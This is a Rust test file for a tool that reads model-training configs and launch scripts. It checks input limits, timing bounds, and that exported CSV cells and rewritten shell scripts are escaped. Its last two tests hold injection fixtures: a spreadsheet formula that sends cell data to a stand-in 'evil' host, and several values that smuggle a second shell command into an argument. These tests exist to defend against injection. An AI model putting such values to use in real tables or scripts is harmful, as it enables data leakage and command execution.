//! Inputs that once froze the page, generated here in their original sizes: each is answered, or rejected by a named
//! limit.

use shardscope::bash::Environment;
use shardscope::launch::{MAX_DIAGNOSTICS, MAX_TEXTS, Request, Resolution, read, resolve};
use shardscope::link::{self, Pasted, PastedText, Shared};
use shardscope::report::document::{Document, Lists};
use shardscope::session::{Answer, Event, State, apply};
use shardscope::source::Source;

use super::bounds::processor_seconds;
use super::hostile_files::files as hostile_files;

/// Factor by which a test without optimisation may exceed 2 s.
const SLOWER: f64 = if cfg!(debug_assertions) { 8.0 } else { 1.0 };

#[track_caller]
fn quickly<T>(what: &str, call: impl FnOnce() -> T) -> T {
    let started = processor_seconds();
    let value = call();
    let took = processor_seconds() - started;
    assert!(took < 2.0 * SLOWER, "{what}: {took} s");
    value
}

fn pairs(count: usize) -> Vec<(String, String)> {
    (0..count).map(|index| (format!("k{index}"), "v".to_owned())).collect()
}

fn files(count: usize, text: impl Fn(usize) -> (String, String)) -> Vec<PastedText> {
    (0..count).map(text).map(|(name, text)| PastedText { name, text }).collect()
}

/// The message when following the link; the page stays unchanged if the link cannot be read.
fn followed(link: &str) -> String {
    let state = quickly("a link", || apply(State::default(), Event::Follow(link.to_owned())));
    state.broken_link.map_or_else(String::new, |error| error.to_string())
}

fn config(index: usize) -> (String, String) {
    let sizes = format!("\"hidden_size\":{},\"num_hidden_layers\":2", 64 + index % 7);
    (format!("f{index}.json"), format!("{{\"model_type\":\"llama\",{sizes},\"x\":\"{index}\"}}"))
}

#[test]
fn links_hold_so_many_files_and_settings() {
    let empty = Pasted::default();
    let many_files =
        Pasted { texts: files(20_000, |_| ("a.sh".to_owned(), "#!/bin/bash\n".to_owned())), ..empty.clone() };
    let many_configs = Pasted { texts: files(9_000, config), ..empty.clone() };
    let script = files(1, |_| (String::new(), "x".to_owned()));
    let many_settings = Pasted { texts: script.clone(), settings: pairs(60_000), ..empty.clone() };
    let many_answers = Pasted { texts: script, environment: pairs(60_000), ..empty };
    for (pasted, expected) in [
        (many_files, "20000 files; at most 256 are read"),
        (many_configs, "9000 files; at most 256 are read"),
        (many_settings, "60000 settings; at most 512 are read"),
        (many_answers, "60000 answers; at most 512 are read"),
    ] {
        let link = link::encode(&Shared::Pasted(pasted));
        let refused = quickly("reading", || link::decode(&link)).expect_err("too many");
        assert!(refused.to_string().contains(expected), "{refused}");
        let said = followed(&link);
        assert!(said.contains(expected), "{said}");
    }
    assert_eq!(link::MAX_TEXTS, MAX_TEXTS, "what a link holds is what is read");
}

fn resolved(source: &Source, overrides: &[(String, String)]) -> Resolution {
    quickly("a reading", || read(&Request { source, environment: &Environment::default(), overrides }))
}

/// Both are limited independently: of thousands of files the first few are read, and the rest is reported.
#[test]
fn files_beyond_the_bound_are_counted() {
    let files: Vec<(String, String)> = (0..9_000).map(config).collect();
    let source = Source::from_files(files.iter().map(|(name, text)| (name.as_str(), text.as_str())));
    let resolution = resolved(&source, &[]);
    let said =
        resolution.diagnostics.iter().find(|said| said.code.name() == "too-many-files").expect("it is told");
    assert!(said.message.contains("8744 more"), "{}", said.message);
    assert!(resolution.diagnostics.len() <= MAX_DIAGNOSTICS + 1);
}

/// The last of several different values counts, and each difference is reported once, for any number of texts.
#[test]
fn many_texts_are_merged_as_two_are() {
    let of = |count: usize| {
        let files: Vec<(String, String)> = (0..count).map(config).collect();
        let source = Source::from_files(files.iter().map(|(name, text)| (name.as_str(), text.as_str())));
        let resolution = resolved(&source, &[]);
        let hidden = resolution.settings.iter().find(|setting| setting.name() == "hidden_size").cloned();
        // Warnings about the key that nobody knows, one of each file, may stand before these.
        let said = resolution.diagnostics.iter().chain(&resolution.further);
        let differ = said.filter(|said| said.code.name() == "texts-differ").count();
        (hidden.map(|setting| setting.value.written()), differ)
    };
    assert_eq!(of(2), (Some("65".to_owned()), 1));
    assert_eq!(of(8), (Some("64".to_owned()), 7));
    let (last, differ) = of(MAX_TEXTS);
    assert_eq!(last, Some((64 + (MAX_TEXTS - 1) % 7).to_string()));
    assert_eq!(differ, MAX_TEXTS - 1);
}

#[test]
fn settings_that_there_are_not_are_counted() {
    let mut overrides = pairs(60_000);
    overrides.push(("num_layers".to_owned(), "3".to_owned()));
    overrides.extend(pairs(10));
    overrides.push(("num_layers".to_owned(), "4".to_owned()));
    let resolution = quickly("60,000 settings", || resolve(&[], &overrides));
    let unknown: Vec<&str> = resolution
        .diagnostics
        .iter()
        .filter(|said| said.code.name() == "unknown-setting")
        .map(|said| said.message.as_str())
        .collect();
    assert_eq!(unknown.len(), 21);
    assert!(unknown.iter().any(|said| said.contains("and 59990 more")), "{unknown:?}");
    let layers = resolution.settings.iter().find(|setting| setting.name() == "num_layers");
    assert_eq!(layers.map(|setting| setting.value.written()), Some("4".to_owned()), "the last one counts");
}

/// Settings files, scripts and logs with tens of thousands of unknown lines.
#[test]
fn long_texts_of_nothing_known_are_answered() {
    let lines = |line: &dyn Fn(usize) -> String| (0..60_000).map(line).collect::<String>();
    let flags =
        "--num-layers 2 --hidden-size 64 --num-attention-heads 4 --seq-length 32 --micro-batch-size 1 --bf16";
    for (name, text) in [
        ("a.yaml", lines(&|index| format!("unknown_key_{index}: 1\n"))),
        ("a.json", format!("{{{}\"hidden_size\": 64}}", lines(&|index| format!("\"k{index}\": 1,\n")))),
        ("a.toml", lines(&|index| format!("unknown_key_{index} = 1\n"))),
        (
            "a.sh",
            format!(
                "torchrun --nproc_per_node 8 pretrain_gpt.py {flags} {}",
                lines(&|index| format!("--unknown-{index} "))
            ),
        ),
        ("b.sh", lines(&|index| format!("VARIABLE_{index}=$OTHER_{index}\n"))),
    ] {
        let source = Source::from_files([(name, text.as_str())]);
        let resolution = resolved(&source, &[]);
        assert!(
            resolution.diagnostics.len() <= MAX_DIAGNOSTICS + 1,
            "{name}: {}",
            resolution.diagnostics.len()
        );
        assert!(resolution.questions.len() <= MAX_DIAGNOSTICS, "{name}");
    }
}

/// Programs, notebooks, configurations and commands designed to take long: a part of the megabytes of
/// `cargo bench --bench read`, and full inputs of those that once took quadratic time.
#[test]
fn files_made_to_take_long_are_answered() {
    const PART: usize = 1 << 15;
    const SQUARES: [&str; 11] = [
        "trainer \"\\n\"",
        "trainer \"f(\"",
        "trainer \"f'{\"",
        "trainer \"x if \"",
        "trainer \"b = BitsAndBytesConfig(load_in_4bit=True)\\n\"",
        "a.py \"trainer\" \"v# = #\\n",
        "a.py \"trainer\" \"parser.add_argument(",
        "nemo, a call in a call in a call",
        "a.yaml \"a: \\\"\"",
        "a.py \"xtuner\" \"v# = dict(",
        "a.yaml \"resources:",
    ];
    let whole = hostile_files(1 << 20)
        .into_iter()
        .filter(|(what, ..)| SQUARES.iter().any(|one| what.starts_with(one)));
    let whole: Vec<_> = whole.collect();
    assert_eq!(whole.len(), SQUARES.len());
    for (what, name, text) in hostile_files(PART).into_iter().chain(whole) {
        let source = Source::from_files([(name, text.as_str())]);
        let started = processor_seconds();
        let resolution =
            read(&Request { source: &source, environment: &Environment::default(), overrides: &[] });
        let took = processor_seconds() - started;
        let most = if text.len() > 2 * PART { 0.5 } else { 0.1 } * SLOWER;
        assert!(took < most, "{what}: {took} s");
        assert!(
            resolution.diagnostics.len() <= MAX_DIAGNOSTICS + 1,
            "{what}: {}",
            resolution.diagnostics.len()
        );
    }
}

/// What is not listed is there for whoever asks: the whole document has each message, in the place of their number.
#[test]
fn messages_beyond_the_bound_are_written_on_request() {
    // Each differs from the one before it.
    let files: Vec<(String, String)> = (0..MAX_TEXTS).map(config).collect();
    let source = Source::from_files(files.iter().map(|(name, text)| (name.as_str(), text.as_str())));
    let resolution = resolved(&source, &[]);
    let count = resolution.further.len();
    assert!(count > 0);
    let said = |lists| -> Vec<String> {
        let json = Document::with_lists(&source, &resolution, None, lists).to_json(false);
        let document: serde_json::Value = serde_json::from_str(&json).expect("JSON");
        let said = document["diagnostics"].as_array().cloned().unwrap_or_default();
        said.iter().map(|one| one["code"].as_str().unwrap_or_default().to_owned()).collect()
    };
    let (short, full) = (said(Lists::Short), said(Lists::Full));
    let counted = |said: &[String]| said.iter().filter(|code| *code == "and-more").count();
    assert_eq!((counted(&short), counted(&full)), (1, 0));
    assert_eq!(full.len(), short.len() - 1 + count);
    let answer = Answer { source, resolution };
    assert_eq!(answer.further().lines().count(), count);
}

/// Cells of a table that a spreadsheet would run, from a script to the file: none begins as a formula does.
#[test]
fn what_a_script_names_is_no_formula_in_a_table() {
    const SCRIPT: &str = "torchrun --nproc_per_node 8 pretrain_gpt.py --num-layers 2 --hidden-size 64 --num-attention-heads 4 \
        --seq-length 32 --micro-batch-size 1 --bf16 --max-position-embeddings 32 \
        --tokenizer-model '=HYPERLINK(\"http://evil/?x=\"&A1)' --vocab-file '@SUM(1)' --tokenizer-type '-2+3+cmd|x'";
    let resolution = resolved(&Source::from_files([("csv.sh", SCRIPT)]), &[]);
    let table = shardscope::report::settings_csv(&resolution.settings);
    for value in ["=HYPERLINK(", "@SUM(1)", "-2+3+cmd|x"] {
        assert!(table.contains(&format!("'{value}")), "{value}: {table}");
    }
    // At the beginning of a line, or behind a comma or the quote of a cell.
    let begins = |at: usize| at == 0 || table[..at].ends_with([',', '\n', '"']);
    for (at, letter) in table.char_indices().filter(|(at, _)| begins(*at)) {
        let cell = table[at..].split([',', '"', '\r']).next().unwrap_or_default();
        let formula = "=+-@".contains(letter) && cell.parse::<f64>().is_err();
        // The quotes inside a cell are doubled: what follows them begins no cell.
        assert!(!formula || table[..at].ends_with("\"\""), "{cell}: {table}");
    }
}

/// A value from a link that a shell would execute is not written into the script, and one that needs quotes gets them.
#[test]
fn values_are_written_into_scripts_as_values() {
    use shardscope::session::{UserInput, rewritten};
    const SCRIPT: &str = "torchrun --nproc_per_node 8 pretrain_gpt.py --num-layers 2 --hidden-size 64 --num-attention-heads 4 \
        --seq-length 32 --micro-batch-size 1 --bf16 --max-position-embeddings 32 --vocab-size 100 --tokenizer-model plain";
    for value in
        ["x; touch /y", "$(touch /y)", "`touch /y`", "x\ntouch /y", "'; touch /y #", "a & touch /y", "x > /y"]
    {
        let mut input = UserInput::from_text(SCRIPT);
        input.settings.push(("tokenizer_model".to_owned(), value.to_owned()));
        let text = rewritten(&input).map_or_else(String::new, |one| one.input.text.to_string());
        // A quote inside quotes is written '\\''.
        let outside: String = text.replace("'\\''", "").split('\'').step_by(2).collect();
        assert!(!outside.contains("touch"), "{value:?}: {text}");
    }
}
